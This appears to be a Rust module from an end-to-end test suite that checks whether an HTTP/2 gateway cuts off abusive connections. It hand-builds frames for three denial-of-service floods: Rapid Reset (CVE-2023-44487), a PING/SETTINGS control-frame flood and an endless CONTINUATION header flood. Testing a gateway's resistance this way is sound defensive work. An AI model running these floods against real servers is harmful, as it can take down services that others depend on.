//! Blows in HTTP/2 (RFC 9113 §10.5): each is a connection that sends frames of one kind until the gateway ends it.

use super::attacker::Siege;
use super::flood::read_out;
use super::tls::connect;
use rustls::ClientConfig;
use std::io::{self, Write as _};
use std::sync::Arc;

/// Frame types and flags (RFC 9113 §6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Pieces that a connection sends at most: together far more than is allowed.
const PIECES: u32 = 40;

/// `:method GET`, `:scheme https`, `:path /` from the static table, and `:authority e2e.example` (RFC 7541 §6).
const FIELDS: &[u8] = b"\x82\x87\x84\x41\x0be2e.example";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Says hello, then sends pieces, by their number from 0.
fn pieces(
    siege: &Siege,
    client: &Arc<ClientConfig>,
    number: u32,
    piece: impl Fn(u32) -> Vec<u8>,
) -> io::Result<bool> {
    let mut stream = connect(siege, client, number)?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    for at in 0..PIECES {
        stream.write_all(&piece(at))?;
        stream.flush()?;
    }
    read_out(&mut stream)
}

/// Streams that are opened and cancelled at once (CVE-2023-44487): 50 in a piece.
pub(super) fn rapid_reset(siege: &Siege, client: &Arc<ClientConfig>, number: u32) -> io::Result<bool> {
    pieces(siege, client, number, |at| {
        let streams = (0..50).map(|stream| (at * 50 + stream) * 2 + 1);
        let both = |stream| {
            let cancel = 8_u32.to_be_bytes();
            [frame(HEADERS, END_STREAM | END_HEADERS, stream, FIELDS), frame(RST_STREAM, 0, stream, &cancel)]
        };
        streams.flat_map(both).flatten().collect()
    })
}

/// `PING` and `SETTINGS`, which demand an answer each: 100 in a piece.
pub(super) fn control(siege: &Siege, client: &Arc<ClientConfig>, number: u32) -> io::Result<bool> {
    pieces(siege, client, number, |_| {
        let pair = [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat();
        pair.repeat(50)
    })
}

/// A head that never ends: 16 KiB of it in a piece.
pub(super) fn continuation(siege: &Siege, client: &Arc<ClientConfig>, number: u32) -> io::Result<bool> {
    pieces(siege, client, number, |at| {
        let field = [&b"\x00\x05x-big\x7f\x81\x1f"[..], &[b'x'; 4_096]].concat();
        let payload = [FIELDS, &field].concat();
        if at == 0 { frame(HEADERS, 0, 1, &payload) } else { frame(CONTINUATION, 0, 1, &field.repeat(3)) }
    })
}
